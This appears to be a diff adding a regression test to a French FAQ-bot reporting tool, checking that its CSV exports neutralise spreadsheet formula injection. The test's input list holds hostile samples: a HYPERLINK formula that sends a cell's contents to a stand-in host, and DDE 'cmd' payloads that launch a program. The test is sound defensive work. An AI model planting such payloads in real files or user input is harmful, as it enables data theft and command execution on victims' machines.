@@ -82,3 +82,28 @@ def test_make_report_command(tmp_path, sqlite_url):
     assert "1 question(s) sans réponse en 1 groupe(s)" in done.stdout
     assert {p.name for p in (tmp_path / "out").iterdir()} == {
         "rapport.html", "questions_sans_reponse.csv", "avis.csv", "fiches_a_relire.csv"}
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1;"aide")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "  =1+1", "＝1+1"]
+
+
+def test_csv_cells_are_never_formulas(tmp_path, sqlite_url):
+    """Issue 15, item 9: a user's question or a feedback target starting with = + - @ (or a tab, a
+    carriage return) was written as is, and a spreadsheet opening the CSV ran it."""
+    repository = Repository.from_url(sqlite_url)
+    for text in FORMULAS:
+        repository.record_unanswered(text, "fallback", 0.1, "rest")
+        repository.record_feedback(text, -1, "rest")  # a forged target, recorded before the fix
+    repository.record_unanswered("-5 € de loyer ?", "fallback", 0.1, "rest")
+    report = build_report(repository, KNOWLEDGE, today=dt.date(2099, 1, 1))
+    paths = write_report(report, tmp_path / "report")
+    cells = []
+    for name in ("unanswered", "feedback", "stale"):
+        with paths[name].open(encoding="utf-8", newline="") as handle:
+            cells += [cell for row in list(csv.reader(handle, delimiter=";"))[1:] for cell in row]
+    texts = [cell for cell in cells if cell.strip()]
+    assert not [c for c in texts if c.lstrip(" \u00a0")[:1] in ("=", "+", "-", "@", "\t", "\r", "\n", "＝")], texts
+    assert "'-5 € de loyer ?" in cells  # shown as text, nothing lost
+    assert "'" + FORMULAS[0] in cells
+    assert all(cell.isdigit() for cell in cells[1:2])  # counts stay numbers
